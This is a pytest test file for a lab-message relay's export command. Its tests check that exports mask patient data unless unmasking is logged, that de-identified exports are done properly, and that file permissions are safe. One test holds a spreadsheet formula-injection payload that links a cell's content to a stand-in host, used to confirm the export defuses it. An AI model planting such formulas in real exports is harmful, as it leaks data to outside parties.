"""`labrelay messages export`: the same rows in three forms, nothing of a patient in them unless asked for."""

import asyncio
import base64
import csv
import json
import re
import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from engine.commands.shared import exporting
from engine.commands.shared.output import ExitCode
from engine.model.process.clock import SystemClock
from engine.store.journal import Journal
from engine.store.journal.starting import recover
from engine.store.operations import append
from engine.store.queries.acts import acts_page
from engine.store.queries.reader import Reader
from tests.support.command_line import Ran, labrelay
from tests.support.filled_journal import CANARY, CHANNEL, DELIVERED, REFUSED, UNMAPPED, WAITING, payload
from tests.support.journals import received

FORMS = ("db", "csv", "ndjson")
PRIVATE = (CANARY.encode(), f"C{DELIVERED}".encode(), b"127.0.0.1")


def export(site: Path, to: Path, *options: str) -> Ran:
    return labrelay("messages", "export", "--to", str(to), *options, site=site)


def unmasked(site: Path) -> list[dict[str, Any]]:
    journal = Reader.beside(site / "var")
    try:
        return [act.what for act in acts_page(journal) if act.verb == "unmask"]
    finally:
        journal.close()


def messages(file: Path) -> dict[int, str]:
    """Ids and states."""
    if file.suffix == ".db":
        with closing(sqlite3.connect(file)) as connection:
            return dict(connection.execute("SELECT id, state FROM messages").fetchall())
    with file.open(newline="") as lines:
        rows = csv.DictReader(lines) if file.suffix == ".csv" else map(json.loads, lines)
        return {int(row["id"]): row["state"] for row in rows}


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("page", [1, 2, 500])
def test_every_form_has_all_messages_and_nothing_from_inside_them(
    site: Path, tmp_path: Path, form: str, page: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exporting, "PAGE", page)
    file = tmp_path / f"out.{form}"
    ran = export(site, file)
    assert ran.code == ExitCode.OK
    assert "5 messages, 3 deliveries" in ran.err
    assert messages(file) == {1: "mapped", 2: "mapped", 3: "dead", 4: "incomplete", 5: "mapped"}
    assert not [private for private in PRIVATE if private in file.read_bytes()]
    assert file.stat().st_mode & 0o777 == 0o600
    assert [left.name for left in tmp_path.iterdir() if left.name.endswith(".part")] == []
    assert unmasked(site) == []


def test_the_database_can_be_asked(site: Path, tmp_path: Path) -> None:
    file = tmp_path / "out.db"
    export(site, file)
    with closing(sqlite3.connect(file)) as connection:
        assert connection.execute("PRAGMA foreign_key_check").fetchall() == []
        assert {row[2] for row in connection.execute("PRAGMA foreign_key_list(deliveries)")} == {"messages"}
        assert {row[2] for row in connection.execute("PRAGMA foreign_key_list(attempts)")} == {"deliveries"}
        found = connection.execute(
            "SELECT m.id, d.state, d.code, a.n, a.code FROM messages m JOIN deliveries d ON d.message = m.id"
            " LEFT JOIN attempts a ON a.delivery = d.id WHERE d.destination = 'archive' ORDER BY m.id"
        ).fetchall()
        assert found == [
            (DELIVERED, "delivered", "", None, None),
            (REFUSED, "dead", "REFUSED", 1, "REFUSED"),
            (WAITING, "waiting", "", None, None),
        ]
        plan = connection.execute("EXPLAIN QUERY PLAN SELECT * FROM messages WHERE channel = 'x'").fetchone()[3]
        assert "USING INDEX" in plan


def test_a_csv_line_is_a_delivery(site: Path, tmp_path: Path) -> None:
    export(site, tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(newline="") as lines:
        rows = {int(row["id"]): row for row in csv.DictReader(lines)}
    assert rows[DELIVERED]["delivery_destination"] == "archive"
    assert rows[DELIVERED]["received"].endswith("+00:00")
    assert rows[UNMAPPED]["delivery_state"] == ""
    assert rows[UNMAPPED]["code"] == "UNMAPPED_CODE"


def test_filters_choose(site: Path, tmp_path: Path) -> None:
    file = tmp_path / "out.ndjson"
    assert export(site, file, "--state", "dead").code == ExitCode.OK
    assert messages(file) == {UNMAPPED: "dead"}
    assert export(site, file, "--until", "2001-01-01", "--yes").code == ExitCode.OK
    assert messages(file) == {}
    assert export(site, file, "--channel", "nobody", "--yes").code == ExitCode.FAILED


@pytest.mark.parametrize("form", FORMS)
def test_contents_are_exported_to_who_asks_and_that_is_noted_first(site: Path, tmp_path: Path, form: str) -> None:
    file = tmp_path / f"out.{form}"
    assert export(site, file, "--unmask", "--purpose", "a test", "--channel", CHANNEL).code == ExitCode.OK
    content = file.read_bytes()
    assert all(private in content for private in PRIVATE)
    assert f"{CANARY} unknown".encode() in content
    assert unmasked(site) == [{"export": {"channel": CHANNEL, "up_to": 5}, "purpose": "a test"}]
    if form == "db":
        with closing(sqlite3.connect(file)) as connection:
            (kept,) = connection.execute("SELECT payload FROM messages WHERE id = ?", (DELIVERED,)).fetchone()
        assert kept == payload(DELIVERED)


def test_no_sender_writes_a_formula_into_a_spreadsheet(site: Path, tmp_path: Path) -> None:
    """A control id, or a whole text, is whatever a peer has sent."""
    formula = '=HYPERLINK("http://x/?"&A1)'

    async def fill() -> None:
        journal = Journal.open(site / "var", clock=SystemClock())
        recover(journal)
        journal.start(asyncio.get_running_loop())
        await journal.run(append.store_message, received(formula.encode(), control_id=formula), repeat_window_s=1.0)
        await journal.stop()

    asyncio.run(fill())
    file = tmp_path / "out.csv"
    assert export(site, file, "--unmask", "--purpose", "a test").code == ExitCode.OK
    with file.open(newline="") as lines:
        newest = next(csv.DictReader(lines))
    assert (newest["control_id"], newest["payload"]) == ("'" + formula, "'" + formula)


def test_nothing_is_overwritten_unasked(site: Path, tmp_path: Path) -> None:
    file = tmp_path / "out.csv"
    file.write_text("mine")
    assert export(site, file).code == ExitCode.REFUSED
    assert file.read_text() == "mine"
    assert export(site, file, "--yes").code == ExitCode.OK
    assert file.read_text() != "mine"


def test_what_cannot_be_written_is_said_and_leaves_nothing(site: Path, tmp_path: Path) -> None:
    assert export(site, tmp_path / "out.xlsx").code == ExitCode.USAGE
    assert export(site, site / "var" / "journal.db", "--yes").code == ExitCode.USAGE
    ran = export(site, tmp_path / "nowhere" / "out.db")
    assert ran.code == ExitCode.FAILED
    assert "cannot be written: No such file or directory" in ran.err


def test_a_damaged_message_ends_the_export_without_a_file(site: Path, tmp_path: Path) -> None:
    with closing(sqlite3.connect(site / "var" / "journal.db")) as connection:
        connection.execute("UPDATE journal SET body = x'00' WHERE id = 1")
        connection.commit()
    ran = export(site, tmp_path / "out.csv", "--unmask", "--purpose", "a test")
    assert ran.code == ExitCode.INTEGRITY
    assert [left.name for left in tmp_path.iterdir() if "out" in left.name] == []


def test_an_export_without_patients(site: Path, tmp_path: Path) -> None:
    file = tmp_path / "bug.ndjson"
    assert export(site, file, "--deid", "--unmask", "--purpose", "a test").code == ExitCode.USAGE
    assert export(site, tmp_path / "bug.csv", "--deid").code == ExitCode.USAGE
    ran = export(site, file, "--deid")
    assert ran.code == ExitCode.OK, ran.err
    text = file.read_text("utf-8")
    assert CANARY not in text
    assert CANARY not in base64.b64decode(json.loads(text.splitlines()[0])["payload_base64"]).decode()
    rows = [json.loads(line) for line in text.splitlines()]
    assert [row["id"] for row in rows] == [1, 2, 3, 4, 5]  # numbers that are given here
    assert all("HGB^Hb^L||14." in row["payload"] for row in rows)
    assert all(re.search(r"T(00|06|12|18):00:00\+00:00$", row["received"]) for row in rows)
    assert all(row["bytes"] == len(base64.b64decode(row["payload_base64"])) for row in rows)
    assert file.stat().st_mode & 0o777 == 0o600
    again = tmp_path / "again.ndjson"
    assert export(site, again, "--deid").code == ExitCode.OK
    assert json.loads(again.read_text("utf-8").splitlines()[0])["payload"] != rows[0]["payload"]
    acts = labrelay("audit", "list", "-o", "json", site=site).json["acts"]
    assert acts[0]["what"]["export"]["deid"] is True
    persons = tmp_path / "persons.csv"
    assert (
        labrelay("audit", "export", "--breach", "--purpose", "a test", "--to", str(persons), site=site).code
        == ExitCode.OK
    )
    assert persons.read_text("utf-8") == ""  # nobody was shown


def test_neither_place_nor_number_tells_the_order_of_messages_in_an_export_without_patients(
    site: Path, tmp_path: Path
) -> None:
    orders = set()
    for number in range(12):  # of 120 orders; all alike by chance less often than once in 10^22
        file = tmp_path / f"{number}.ndjson"
        assert export(site, file, "--deid").code == ExitCode.OK
        payloads = [json.loads(line)["payload"] for line in file.read_text("utf-8").splitlines()]
        orders.add(tuple(re.search(r"HGB\^Hb\^L\|\|([0-9.]+)", text)[1] for text in payloads))  # type: ignore[index] # it is there
    assert len(orders) > 1
    assert len({frozenset(order) for order in orders}) == 1


def test_what_is_no_message_stays_out_of_an_export_without_patients(site: Path, tmp_path: Path) -> None:
    async def fill() -> None:
        journal = Journal.open(site / "var", clock=SystemClock())
        recover(journal)
        journal.start(asyncio.get_running_loop())
        await journal.run(append.store_message, received(f"{CANARY} 5.1".encode()), repeat_window_s=1.0)
        await journal.stop()

    asyncio.run(fill())
    file = tmp_path / "bug.ndjson"
    ran = export(site, file, "--deid")
    assert (ran.code, "1 more are not HL7 v2" in ran.err) == (ExitCode.PARTLY, True)
    (refused,) = [row for row in map(json.loads, file.read_text("utf-8").splitlines()) if row["refused"]]
    assert (refused["payload"], refused["received"]) == (None, None)
    assert "neither HL7 v2 nor ASTM" in refused["refused"]
    assert CANARY not in file.read_text("utf-8")


@pytest.mark.parametrize("form", FORMS)
def test_a_delivery_without_an_attempt_has_no_time_of_the_next(site: Path, tmp_path: Path, form: str) -> None:
    file = tmp_path / f"out.{form}"
    export(site, file)
    if form == "db":
        with closing(sqlite3.connect(file)) as connection:
            times = connection.execute("SELECT next_attempt FROM deliveries WHERE state = 'waiting'").fetchall()
        assert times == [(None,)]
    else:
        assert "1970-01-01" not in file.read_text()
    ran = labrelay("messages", "show", str(WAITING), "-o", "json", site=site)
    assert [one["next_attempt"] for one in json.loads(ran.out)["deliveries"]] == [None]
